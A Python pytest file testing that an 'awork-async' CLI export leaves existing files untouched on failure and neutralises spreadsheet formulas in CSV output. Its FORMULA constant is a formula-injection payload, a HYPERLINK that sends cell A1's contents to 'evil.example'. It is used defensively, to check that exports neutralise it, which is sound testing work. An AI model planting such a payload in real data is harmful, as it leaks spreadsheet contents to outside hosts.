"""``awork-async export time-entries -o FILE``: a failed export leaves FILE as it was (issue 9 §2).

Without ``--resume`` the export writes a temporary file beside FILE and renames it over FILE
only when it succeeded; CSV cells that a spreadsheet would run as formulas are neutralised.
"""

from __future__ import annotations

import csv
import io
import json
import socket
from pathlib import Path

import pytest
from typer.testing import CliRunner, Result

from awork_async.cli import app
from awork_async.sandbox import Sandbox

OLD = b'{"id": "an export the user wants to keep"}\n'
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'


pytestmark = pytest.mark.cli_sandbox(entries=40, seed=11, token="tok-export-safety-0001")


@pytest.fixture(scope="module", autouse=True)
def _a_formula_note(cli_sandbox: Sandbox) -> None:
    """The module's sandbox holds one note that a spreadsheet would run as a formula."""
    first = sorted(cli_sandbox.store.entries)[0]
    cli_sandbox.store.entries[first]["note"] = FORMULA
    cli_sandbox.store.touch()


def export(base_url: str, token: str, *args: str) -> Result:
    return CliRunner().invoke(
        app, ["--base-url", base_url, "--token", token, "export", "time-entries", *args]
    )


def _closed_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def files_in(folder: Path) -> set[str]:
    return {path.name for path in folder.iterdir()}


@pytest.mark.parametrize("resume", [False, True])
@pytest.mark.parametrize("failure", ["wrong token", "unreachable", "bad filter"])
def test_a_failed_export_keeps_the_old_file_and_leaves_no_debris(
    cli_sandbox: Sandbox, tmp_path: Path, failure: str, resume: bool
) -> None:
    keep, new = tmp_path / "keep.jsonl", tmp_path / "new.jsonl"
    keep.write_bytes(OLD)
    base_url, token, filters = cli_sandbox.base_url, cli_sandbox.token, []
    if failure == "wrong token":
        token = "tok-wrong-secret"
    elif failure == "unreachable":
        base_url = f"http://127.0.0.1:{_closed_port()}/api/v1"
    else:
        filters = ["--filterby", "noSuchField eq 'x'"]
    for target in (keep, new):
        result = CliRunner().invoke(
            app,
            [
                *("--base-url", base_url, "--token", token, "--max-attempts", "1"),
                *("export", "time-entries", "-o", str(target), *filters),
                *(["--resume"] if resume else []),
            ],
        )
        assert result.exit_code == 1, result.output
    assert keep.read_bytes() == OLD
    assert files_in(tmp_path) - {"xdg"} == {"keep.jsonl"}  # no new file, no temporary file


def test_a_successful_export_replaces_the_file_and_keeps_its_mode(
    cli_sandbox: Sandbox, tmp_path: Path
) -> None:
    keep = tmp_path / "keep.jsonl"
    keep.write_bytes(OLD)
    keep.chmod(0o640)
    result = export(cli_sandbox.base_url, cli_sandbox.token, "-o", str(keep))
    assert result.exit_code == 0, result.output
    lines = keep.read_bytes().splitlines()
    assert len(lines) == 40
    assert {json.loads(line)["id"] for line in lines} == set(cli_sandbox.store.entries)
    assert keep.stat().st_mode & 0o777 == 0o640
    assert json.loads((tmp_path / "keep.jsonl.checkpoint").read_text())["complete"] is True
    assert files_in(tmp_path) - {"xdg"} == {"keep.jsonl", "keep.jsonl.checkpoint"}


def test_a_failed_export_keeps_the_old_checkpoint(cli_sandbox: Sandbox, tmp_path: Path) -> None:
    keep = tmp_path / "keep.jsonl"
    assert export(cli_sandbox.base_url, cli_sandbox.token, "-o", str(keep)).exit_code == 0
    before = keep.read_bytes(), (tmp_path / "keep.jsonl.checkpoint").read_bytes()
    failed = export(cli_sandbox.base_url, "tok-wrong-secret", "-o", str(keep))
    assert failed.exit_code == 1
    assert (keep.read_bytes(), (tmp_path / "keep.jsonl.checkpoint").read_bytes()) == before
    again = export(cli_sandbox.base_url, cli_sandbox.token, "-o", str(keep), "--resume")
    assert again.exit_code == 0, again.output
    assert "exported 0 entries" in again.stderr  # the old pair still belongs together
    assert keep.read_bytes() == before[0]


def test_interrupting_an_export_without_resume_says_the_file_is_unchanged(
    cli_sandbox: Sandbox, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from awork_async.cli import cmd_export

    def interrupted(*args: object, **kwargs: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(cmd_export, "run_export", interrupted)
    keep = tmp_path / "keep.jsonl"
    result = export(cli_sandbox.base_url, cli_sandbox.token, "-o", str(keep))
    assert result.exit_code == 130
    assert f"{keep} is unchanged" in result.stderr
    resumed = export(cli_sandbox.base_url, cli_sandbox.token, "-o", str(keep), "--resume")
    assert "run the same command to continue" in resumed.stderr


def csv_notes(path: Path) -> set[str]:
    return {row["note"] for row in csv.DictReader(io.StringIO(path.read_text(), newline=""))}


def test_csv_formulas_are_neutralised_unless_raw_values(
    cli_sandbox: Sandbox, tmp_path: Path
) -> None:
    safe, raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
    assert (
        export(cli_sandbox.base_url, cli_sandbox.token, "-f", "csv", "-o", str(safe)).exit_code == 0
    )
    notes = csv_notes(safe)
    assert "'" + FORMULA in notes
    assert FORMULA not in notes
    args = ["-f", "csv", "-o", str(raw), "--csv-raw-values"]
    assert export(cli_sandbox.base_url, cli_sandbox.token, *args).exit_code == 0
    assert FORMULA in csv_notes(raw)
    assert "'" + FORMULA not in csv_notes(raw)
